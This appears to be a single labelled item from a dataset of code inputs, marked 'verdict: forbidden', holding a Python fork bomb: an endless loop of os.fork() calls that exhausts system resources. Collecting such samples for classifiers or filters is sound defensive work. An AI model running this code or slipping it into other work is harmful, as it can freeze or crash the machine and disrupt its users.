# verdict: forbidden
# style: input
import os

while True:
    os.fork()
